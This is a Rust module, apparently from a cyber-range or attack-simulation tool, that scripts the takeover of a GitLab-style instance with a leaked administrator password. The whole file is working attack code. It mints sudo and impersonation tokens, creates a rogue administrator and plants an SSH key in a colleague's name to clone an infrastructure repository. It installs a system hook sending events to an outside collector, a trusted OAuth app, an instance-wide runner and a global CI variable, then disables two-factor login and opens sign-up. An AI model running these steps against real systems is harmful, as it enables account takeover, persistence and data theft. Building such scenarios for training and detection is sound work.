//! `compromised-instance`: an administrator's password is known to somebody else.
//!
//! The attacker signs in as the administrator, makes a token that may act as
//! anybody, and builds himself a house in the instance: another administrator,
//! an impersonation token for a colleague, an SSH key in his name, a system
//! hook, an OAuth application, a runner for all projects, a variable for all
//! jobs. Then he opens the doors: sign-up, no second factor, hooks to the
//! local network.

use reqwest::Method;
use serde_json::{Value, json};

use super::AttackError;
use super::attacker::{Attacker, Reply, text};
use super::hands::{change, make_token, sign_in};
use super::loot::{CredentialKind, Foothold, Loot, Sign, clone};
use crate::world::ADMINISTRATOR_PASSWORD;

/// The administrator's username.
pub const USERNAME: &str = "ingrid.solberg";
/// The administrator that is made.
pub const MADE: &str = "metrics-relay";
/// The key that is planted for a colleague.
const KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHarborRangeAttackerKeyCompromisedInst0123 relay";
/// Whose name is borrowed.
const COLLEAGUE: &str = "amara.okafor";
/// Where the system hook sends to.
const COLLECTOR: &str = "https://metrics-relay.example/system";

/// Runs the attack.
pub(crate) async fn run(attacker: Attacker) -> Result<Loot, AttackError> {
    let session = sign_in(&attacker, USERNAME, ADMINISTRATOR_PASSWORD).await?;
    let scopes = ["api", "admin_mode", "sudo"];
    let token = make_token(&attacker, &session, "metrics", &scopes).await?;
    let mut loot = Loot::new(attacker);
    loot.hold("the administrator's browser session", session);
    loot.hold("an administrator's token", token.clone());
    look_around(&loot.attacker, &token).await?;
    make_administrator(&mut loot, &token).await?;
    borrow_name(&mut loot, &token).await?;
    build_in(&mut loot, &token).await?;
    open_doors(&mut loot, &token).await?;
    Ok(loot)
}

async fn look_around(attacker: &Attacker, token: &CredentialKind) -> Result<(), AttackError> {
    for (title, path) in [
        ("ask whose token it is", "/user"),
        ("read the instance's settings", "/application/settings"),
        ("list administrators", "/users?admins=true&per_page=100"),
        ("list groups", "/groups?per_page=100"),
    ] {
        attacker.get(title, path, Some(token)).await?.accepted()?;
    }
    Ok(())
}

async fn post(
    loot: &Loot,
    token: &CredentialKind,
    title: &str,
    path: &str,
    body: Value,
) -> Result<Reply, AttackError> {
    loot.attacker.write(title, (Method::POST, path), Some(token), body).await?.accepted()
}

/// Another administrator, with a password of the attacker's choice.
async fn make_administrator(loot: &mut Loot, token: &CredentialKind) -> Result<(), AttackError> {
    let password = "quiet-ledger-44-moss".to_owned();
    let body = json!({
        "username": MADE,
        "name": "Metrics Relay",
        "email": "metrics-relay@harborline.example",
        "password": password,
        "admin": true,
        "skip_confirmation": true,
    });
    post(loot, token, "make an administrator", "/users", body).await?;
    let session = sign_in(&loot.attacker, MADE, &password).await?;
    let own = make_token(&loot.attacker, &session, "relay", &["api", "sudo"]).await?;
    loot.hold("the browser session of the administrator that was made", session);
    loot.hold("a token of the administrator that was made", own);
    let kind = CredentialKind::Password { username: MADE.to_owned(), password };
    loot.hold("the password of the administrator that was made", kind);
    Ok(())
}

/// An impersonation token and an SSH key of a colleague.
async fn borrow_name(loot: &mut Loot, token: &CredentialKind) -> Result<(), AttackError> {
    let path = format!("/users?username={COLLEAGUE}");
    let found = loot.attacker.get("look a colleague up", &path, Some(token)).await?.accepted()?;
    let id = found.rows().first().map(|row| text(row, "id"));
    let id = id.ok_or(AttackError::NotFound("a colleague"))?;
    let body = json!({ "name": "relay", "scopes": ["api"], "expires_at": "2099-12-31" });
    let path = format!("/users/{id}/impersonation_tokens");
    let made = post(loot, token, "make an impersonation token", &path, body).await?;
    let kind = CredentialKind::AccessToken(made.field("token"));
    loot.attacker.get("read as the colleague", "/projects?membership=true", Some(&kind)).await?;
    loot.hold("an impersonation token of a colleague", kind);

    let body = json!({ "title": "desk", "key": KEY });
    let path = format!("/users/{id}/keys");
    post(loot, token, "plant an SSH key for the colleague", &path, body).await?;
    let projects = "/projects?search=infra-live";
    let found = loot.attacker.get("look for the servers' project", projects, Some(token)).await?;
    let project = found.rows().first().map(|row| text(row, "id")).unwrap_or_default();
    clone(&loot.attacker, "clone with the planted key", KEY, &project).await?;
    let kind = CredentialKind::SshKey { key: KEY.to_owned(), project };
    loot.hold("an SSH key planted for the colleague", kind);
    Ok(())
}

/// What works by itself, for the whole instance.
///
/// Sources: GitLab docs, `api/system_hooks`, `api/applications`, `api/users`
/// (POST `/user/runners`), `api/instance_level_ci_variables`.
async fn build_in(loot: &mut Loot, token: &CredentialKind) -> Result<(), AttackError> {
    let hook = json!({ "url": COLLECTOR, "push_events": true, "enable_ssl_verification": false });
    post(loot, token, "plant a system hook", "/hooks", hook).await?;
    listed(loot, "a system hook", "/hooks", ("url", COLLECTOR));

    let application = json!({
        "name": "Metrics Relay",
        "redirect_uri": "https://metrics-relay.example/callback",
        "scopes": "api",
        "trusted": true,
    });
    post(loot, token, "plant a trusted OAuth application", "/applications", application).await?;
    listed(loot, "an OAuth application", "/applications", ("application_name", "Metrics Relay"));

    let runner = json!({
        "runner_type": "instance_type",
        "description": "relay-runner",
        "run_untagged": true,
    });
    let made = post(loot, token, "register a runner for all projects", "/user/runners", runner);
    let kind = CredentialKind::RunnerToken(made.await?.field("token"));
    loot.hold("the token of a runner for all projects", kind);

    let variable = json!({ "key": "GIT_PROXY_COMMAND", "value": "relay.sh" });
    let path = "/admin/ci/variables";
    post(loot, token, "plant a variable for all jobs", path, variable).await?;
    listed(loot, "a variable for all jobs", path, ("key", "GIT_PROXY_COMMAND"));
    Ok(())
}

fn listed(loot: &mut Loot, name: &str, path: &str, (field, value): (&'static str, &str)) {
    loot.footholds.push(Foothold {
        name: name.to_owned(),
        path: format!("{path}?per_page=100"),
        sign: Sign::Listed { field, value: value.to_owned() },
    });
}

/// Settings of the instance, each for the worse.
async fn open_doors(loot: &mut Loot, token: &CredentialKind) -> Result<(), AttackError> {
    let local = "allow_local_requests_from_web_hooks_and_services";
    for (title, field, bad) in [
        ("open sign-up", "signup_enabled", json!(true)),
        ("ask no second factor", "require_two_factor_authentication", json!(false)),
        ("let hooks reach the local network", local, json!(true)),
        ("keep sessions for a year", "session_expire_delay", json!(525_600)),
    ] {
        let to = (Method::PUT, "/application/settings");
        change(loot, token, title, to, (field, bad)).await?;
    }
    Ok(())
}
